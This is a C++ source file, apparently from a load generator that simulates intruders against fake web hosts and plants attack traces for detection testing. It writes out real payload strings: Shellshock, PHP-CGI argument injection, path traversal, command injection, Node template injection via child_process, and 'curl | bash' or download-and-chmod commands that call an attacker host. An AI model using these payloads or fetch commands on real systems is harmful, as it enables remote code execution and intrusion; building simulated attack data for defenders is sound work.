#include "loadgen/intruder.h"

#include <utility>

#include "absl/strings/ascii.h"
#include "absl/strings/str_cat.h"

namespace sequitur::loadgen {
namespace {

constexpr absl::string_view kAgents[] = {
    "python-requests/2.32.3", "curl/8.7.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/119.0.0.0 Safari/537.36"};

// Everything but letters, digits and a few marks as %XX, as tools encode it.
std::string PercentEncoded(absl::string_view text) {
  constexpr char kHex[] = "0123456789ABCDEF";
  std::string out;
  for (const char raw : text) {
    const auto c = static_cast<unsigned char>(raw);
    if (absl::ascii_isalnum(c) || c == '-' || c == '.' || c == '_') {
      out += raw;
    } else {
      out += '%';
      out += kHex[c >> 4];
      out += kHex[c & 15];
    }
  }
  return out;
}

void ExploitPhp(Request& request, absl::string_view command, Random& random) {
  switch (random.Between(0, 3)) {
    case 0:
      request.target = absl::StrCat("/tools/ping.php?host=127.0.0.1", PercentEncoded(";"),
                                    PercentEncoded(command));
      return;
    case 1:
      request.method = "POST";
      request.target = "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input";
      return;
    case 2:
      request.target =
          absl::StrCat("/index.php?page=../../../../../../private/var/log/nginx/access.log%00&c=",
                       PercentEncoded(command));
      return;
    default:
      request.target = absl::StrCat("/search?q=", PercentEncoded("$("), PercentEncoded(command),
                                    PercentEncoded(")"));
  }
}

void ExploitHttpd(const Host& host, Request& request, absl::string_view command, Random& random) {
  const int64_t choice = random.Between(0, host.access_format == AccessFormat::kCommon ? 1 : 2);
  request.method = choice == 0 ? "POST" : "GET";
  if (choice == 0) {
    request.target = "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh";
  } else if (choice == 1) {
    request.target = absl::StrCat("/cgi-bin/status.cgi?host=localhost", PercentEncoded(";"),
                                  PercentEncoded(command));
  } else {
    request.target = "/cgi-bin/status.cgi";
    request.user_agent = absl::StrCat("() { :;}; /bin/bash -c \"", command, "\"");
  }
}

void ExploitNode(Request& request, absl::string_view command, Random& random) {
  if (random.Chance(0.5)) {
    request.target = absl::StrCat(
        "/api/preview?template=",
        PercentEncoded(absl::StrCat("{{constructor.constructor('return process')().mainModule."
                                    "require('child_process').execSync('",
                                    command, "')}}")));
  } else {
    request.method = "POST";
    request.target = absl::StrCat("/api/convert?url=", PercentEncoded("http://localhost/`"),
                                  PercentEncoded(command), PercentEncoded("`"));
  }
}

}  // namespace

Intruder MakeIntruder(Random& random) {
  Intruder intruder;
  intruder.client = absl::StrCat("185.220.101.", random.Between(1, 254));
  intruder.home = absl::StrCat("45.33.32.", random.Between(1, 254));
  intruder.user_agent = random.Pick<absl::string_view>(kAgents);
  return intruder;
}

ShellCommand FetchCommand(const Intruder& intruder, Random& random) {
  const std::string home = absl::StrCat("https://", intruder.home, "/");
  const std::string word = random.Hex(8);
  ShellCommand command;
  switch (random.Between(0, 2)) {
    case 0:
      command.call = {ProgramId::kCurl, {"curl", "-fsSL", absl::StrCat(home, word, ".sh")}};
      command.text = absl::StrCat("curl -fsSL ", home, word, ".sh | bash");
      break;
    case 1:
      command.before = {{ProgramId::kId, {"id"}}, {ProgramId::kUname, {"uname", "-a"}}};
      command.call = {ProgramId::kCurl, {"curl", "-s", absl::StrCat(home, "r?k=", word)}};
      command.text = absl::StrCat("id; uname -a; curl -s ", home, "r?k=", word);
      break;
    default:
      const std::string file = absl::StrCat("/tmp/.", word);
      command.call = {ProgramId::kCurl, {"curl", "-s", "-o", file, home + "m"}};
      command.saved_as = "/private" + file;
      command.after = {{ProgramId::kChmod, {"chmod", "+x", file}}};
      command.text = absl::StrCat("curl -s -o ", file, " ", home, "m && chmod +x ", file);
  }
  return command;
}

Request Exploit(const Host& host, const Intruder& intruder, absl::string_view command,
                Random& random) {
  Request request;
  request.client = intruder.client;
  request.user_agent = std::string(intruder.user_agent);
  request.bytes = random.Between(150, 900);
  if (host.role == Role::kHttpd) {
    ExploitHttpd(host, request, command, random);
  } else if (host.RunsPhp()) {
    ExploitPhp(request, command, random);
  } else {
    ExploitNode(request, command, random);
  }
  return request;
}

Visit FailedTry(const Intruder& intruder, Random& random) {
  Visit visit = ScannerVisit(random);
  visit.request.client = intruder.client;
  visit.request.user_agent = std::string(intruder.user_agent);
  return visit;
}

Script PlayRaid(Machine& machine, Raid raid) {
  Timeline& timeline = machine.timeline;
  for (const Command& step : raid.command.before) {
    co_await machine.RunChild(raid.shell, step, 4 * kMillisecond);
  }
  Process* curl = machine.processes.Fork(*raid.shell);
  co_await timeline.Sleep(machine.Between(150 * kMicrosecond, kMillisecond));
  machine.processes.Exec(*curl, raid.command.call, machine.Now(raid.planted, "tool"));
  co_await timeline.Sleep(machine.Between(8 * kMillisecond, 40 * kMillisecond) + raid.pause);
  ConnectionStart connection;
  connection.process = curl;
  connection.to = raid.intruder.home;
  connection.duration = machine.Between(120 * kMillisecond, 2 * kSecond);
  connection.flow_delay = raid.flow_delay;
  connection.planted = raid.planted;
  co_await machine.Connect(std::move(connection));
  if (!raid.command.saved_as.empty()) {
    co_await machine.WriteFile(curl, raid.command.saved_as, machine.Between(9'000, 900'000),
                               machine.Now(raid.planted, "download"));
  }
  co_await machine.End(curl);
  for (const Command& step : raid.command.after) {
    co_await machine.RunChild(raid.shell, step, 3 * kMillisecond);
  }
}

}  // namespace sequitur::loadgen
